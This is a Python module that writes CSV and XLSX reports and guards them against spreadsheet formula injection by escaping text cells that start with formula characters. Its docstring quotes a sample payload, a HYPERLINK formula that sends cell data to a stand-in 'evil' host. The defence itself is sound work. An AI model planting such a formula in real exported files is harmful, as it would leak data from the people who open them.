"""Cells for the CSV and XLSX files people open in a spreadsheet program (import reports today,
the monthly, targets and credit reports later): every file the service writes goes through here.

A text cell that begins with ``=``, ``+``, ``-`` or ``@`` (or tab or carriage return) is read by
Excel, WPS and LibreOffice as a formula: a name like ``=HYPERLINK("http://evil/?"&A1,"详情")`` in
an upload would run on the officer's desk when the report is opened (OWASP "CSV injection"). Such
a cell is written with a leading ``'``, as OWASP advises; the full-width forms are included because
Chinese input methods type them and some spreadsheet programs take them for the ASCII ones.
Numbers written as numbers stay numbers (a negative fine is ``-500``, not text): only text is
neutralised.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

#: what a spreadsheet program takes for the start of a formula (OWASP CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value: object) -> object:
    """``value`` as it may be written to a cell: text that would start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 with a byte-order mark (Excel on Chinese Windows reads a CSV without it as GB 18030)."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow(_row(header))
    writer.writerows(_row(r) for r in rows)
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[object]], title: str = "report") -> bytes:
    from openpyxl import Workbook  # noqa: PLC0415 - heavy import, only when a workbook is written

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.append(_row(header))
    for r in rows:
        sheet.append(_row(r))
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def table_bytes(suffix: str, header: Sequence[str], rows: Iterable[Sequence[object]], title: str = "report") -> bytes:
    """A table as CSV or XLSX by the file name's suffix (``.csv`` or ``.xlsx``)."""
    if suffix.lower() == ".xlsx":
        return xlsx_bytes(header, rows, title)
    return csv_bytes(header, rows)


__all__ = ["FORMULA_STARTS", "csv_bytes", "safe_cell", "table_bytes", "xlsx_bytes"]
